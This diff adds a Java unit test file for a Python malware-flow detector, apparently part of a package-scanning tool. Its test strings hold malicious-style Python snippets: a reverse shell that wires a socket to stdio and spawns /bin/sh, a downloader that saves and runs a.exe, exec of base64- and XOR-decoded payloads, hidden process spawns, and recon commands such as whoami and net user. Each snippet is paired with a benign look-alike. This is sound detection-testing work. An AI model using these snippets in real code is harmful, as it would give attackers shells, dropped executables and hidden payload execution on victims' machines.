@@ -1,0 +1,127 @@
+package dev.fang.featurize.analysis;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.fang.featurize.analysis.FlowSite.Kind;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Each flow on a malicious-style snippet and on a benign look-alike that calls the same APIs with other values.
+ * Snippets are text only: nothing is ever executed.
+ */
+class FlowsTest {
+
+    private static List<FlowSite> sites(String python, Kind kind) {
+        return Analyze.source(python).flowSites().stream().filter(f -> f.kind() == kind).toList();
+    }
+
+    private static String lines(String... l) {
+        return String.join("\n", l) + "\n";
+    }
+
+    @Test
+    void execOfRuntimeDecodedValueFollowsAssignmentsAndDecoderFunctions() {
+        String bad = lines("import base64",
+                "def unpack(s):",
+                "    return base64.b64decode(s)",
+                "blob = open('data').read()",
+                "code = unpack(blob)",
+                "text = code.decode()",
+                "exec(text)");
+        List<FlowSite> found = sites(bad, Kind.EXEC_RUNTIME_DECODED);
+        assertThat(found).singleElement().satisfies(f -> {
+            assertThat(f.line()).isEqualTo(7);
+            assertThat(f.onLoad()).isTrue();
+            assertThat(f.snippet()).startsWith("exec(text)");
+        });
+        String xorLoop = lines("out = ''", "for ch in open('k').read():", "    out += chr(ord(ch) ^ 7)", "eval(compile(out, 'x', 'exec'))");
+        assertThat(sites(xorLoop, Kind.EXEC_RUNTIME_DECODED)).isNotEmpty();
+        // benign: exec of a file's text, and exec of a constant Fang decodes itself (a payload, not a run-time decoding)
+        assertThat(sites(lines("src = open('version.py').read()", "exec(src)"), Kind.EXEC_RUNTIME_DECODED)).isEmpty();
+        assertThat(sites(lines("import base64", "exec(base64.b64decode('cHJpbnQoMSk='))"), Kind.EXEC_RUNTIME_DECODED)).isEmpty();
+    }
+
+    @Test
+    void runningTheFileJustDownloadedOrWritten() {
+        String bad = lines("import os, urllib.request",
+                "def drop(url):",
+                "    path = os.path.join(os.getenv('TEMP'), 'a.exe')",
+                "    urllib.request.urlretrieve(url, path)",
+                "    os.startfile(path)");
+        assertThat(sites(bad, Kind.RUN_DOWNLOADED_FILE)).singleElement().satisfies(f -> {
+            assertThat(f.line()).isEqualTo(5);
+            assertThat(f.onLoad()).isFalse();
+        });
+        String written = lines("import subprocess",
+                "with open('/tmp/f.py', 'w') as f:",
+                "    f.write('print(1)')",
+                "subprocess.call('python3 /tmp/f.py &', shell=True)");
+        assertThat(sites(written, Kind.RUN_WRITTEN_FILE)).singleElement().satisfies(f -> assertThat(f.onLoad()).isTrue());
+        assertThat(sites(written, Kind.RUN_DOWNLOADED_FILE)).isEmpty();
+        assertThat(sites(lines("import requests", "def f(u):", "    exec(requests.get(u).text)"), Kind.RUN_DOWNLOADED_FILE)).hasSize(1);
+        // benign: a file written, then only made executable; a download next to a process that runs something else
+        String benign = lines("import os, subprocess, urllib.request",
+                "def fetch(url, path):",
+                "    urllib.request.urlretrieve(url, path)",
+                "    os.system('chmod +x ' + path)",
+                "    subprocess.run(['make', 'all'])");
+        assertThat(sites(benign, Kind.RUN_WRITTEN_FILE)).isEmpty();
+        assertThat(sites(benign, Kind.RUN_DOWNLOADED_FILE)).isEmpty();
+    }
+
+    @Test
+    void socketWiredToStandardStreams() {
+        String bad = lines("import socket, os, pty",
+                "def shell(h, p):",
+                "    s = socket.socket()",
+                "    s.connect((h, p))",
+                "    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]",
+                "    pty.spawn('/bin/sh')");
+        assertThat(sites(bad, Kind.SOCKET_STDIO)).hasSize(1);
+        // benign: output capture dups a file's descriptor onto stdout, with no socket in the function
+        String capture = lines("import os, tempfile", "def capture():", "    f = tempfile.TemporaryFile()", "    os.dup2(f.fileno(), 1)");
+        assertThat(sites(capture, Kind.SOCKET_STDIO)).isEmpty();
+    }
+
+    @Test
+    void pythonAndHiddenProcessesOnLoad() {
+        String bad = lines("import subprocess, sys",
+                "subprocess.Popen(['python3', '-c', 'from seccache import cache_manager'], close_fds=True)",
+                "subprocess.Popen([sys.executable, 'helper.py'], creationflags=0x08000000)",
+                "import os",
+                "os.system('pythonw deps.pyw')");
+        assertThat(sites(bad, Kind.SPAWN_PYTHON)).hasSize(3).allSatisfy(f -> assertThat(f.onLoad()).isTrue());
+        assertThat(sites(bad, Kind.SPAWN_HIDDEN)).extracting(FlowSite::line).containsExactly(3, 5);
+        // benign: a test helper runs the interpreter inside a function nothing calls; a plain process on load
+        String benign = lines("import subprocess, sys",
+                "def check():",
+                "    subprocess.run([sys.executable, '-m', 'pip', '--version'])",
+                "subprocess.run(['git', 'describe'])");
+        assertThat(sites(benign, Kind.SPAWN_PYTHON)).singleElement().satisfies(f -> assertThat(f.onLoad()).isFalse());
+        assertThat(sites(benign, Kind.SPAWN_HIDDEN)).isEmpty();
+    }
+
+    @Test
+    void reconCommandsAreConstantCommandsOfReconTools() {
+        String bad = lines("import subprocess, os",
+                "subprocess.getoutput('dig @1.1.1.1 install.api.example.com')",
+                "os.system('w' + 'hoami')",
+                "os.system('net user')");
+        assertThat(sites(bad, Kind.RECON_COMMAND)).extracting(FlowSite::line).containsExactly(2, 3, 4);
+        assertThat(sites(lines("import os", "os.system('net start spooler')", "os.system('make install')"), Kind.RECON_COMMAND))
+                .isEmpty();
+    }
+
+    @Test
+    void modulesUsedWithoutImportResolve() {
+        ModuleAnalysis a = Analyze.source(lines("def f():", "    return urllib.request.urlopen('https://example.com').read()"));
+        assertThat(Analyze.call(a, "urllib.request.urlopen")).isNotNull();
+    }
+
+    @Test
+    void bytesDecodeWithOtherAsciiCompatibleCodecs() {
+        ModuleAnalysis a = Analyze.source("x = b'\\xc4\\xe3\\xba\\xc3 os.system'.decode('gb2312')\n");
+        assertThat(Analyze.values(a)).contains("\u4f60\u597d os.system");
+    }
+}
